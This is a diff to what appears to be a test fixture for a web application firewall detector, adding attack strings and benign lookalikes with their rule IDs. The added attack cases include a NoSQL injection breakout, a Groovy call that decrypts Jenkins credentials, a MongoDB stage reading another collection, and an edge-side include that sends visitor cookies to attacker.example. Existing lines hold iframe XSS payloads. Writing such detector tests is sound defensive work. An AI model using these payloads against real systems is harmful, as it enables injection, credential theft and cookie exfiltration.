@@ -765,6 +765,15 @@ export const ATTACKS: DetectorCase[] = [
   j("an HTTPS frame with an event handler", '<iframe src="https://x.example/a" onload="alert(1)">', "941130"),
   j("a frame of markup in srcdoc", '<iframe srcdoc="&lt;b&gt;hi&lt;/b&gt;" width="1">', "941130"),
   j("a frame of a numeric HTTPS address", '<iframe src="https://10.96.0.1:443/api/v1/secrets">', "941130"),
+  // A breakout that closes its object too before the operator member (fresh-payloads-79).
+  q("a Mongo breakout closing its object", "x'}, $or: [ {}, {'a':'a", "942290"),
+  q("a condition opening on an ODBC escape, not a field reference", "or({x 1}=1)", "942200"),
+  // Jenkins' credential decryption, reached only from a Groovy script (fresh-payloads-78).
+  j("Jenkins' credential store decrypted", 'println(hudson.util.Secret.decrypt("{AQAAABAAAAAQ}"))', "944130"),
+  // An aggregation stage that reads another collection (fresh-payloads-79).
+  q("an aggregation stage reading another collection", '[{"$unionWith":{"coll":"sessions"}}]', "942290"),
+  // An Edge Side Include: a caching proxy fetches the URL with the visitor's cookies (fresh-payloads-77).
+  q("an edge-side include", '<esi:include src="http://attacker.example/esi?c=$(HTTP_COOKIE)"/>', "932200"),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -1329,4 +1338,9 @@ export const BENIGN: DetectorCase[] = [
     "a map's embed code",
     '<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy"></iframe>',
   ),
+  // A parcel's quoted instruction and a carbon copy in a note (benign-api-77, -78).
+  j("a quoted phrase with a negation", '"do not lend"'),
+  j("a carbon copy after a semicolon", "Send to: coi@tcco.com; cc pm.jsmith@obrien-co.com"),
+  // Airtable's formula filter: `{Field}` references, which SQL has no syntax for (benign-api-77).
+  q("a spreadsheet formula with field references", "AND({Status}='Received', FIND(\"PO-\", {Reference}))"),
 ];
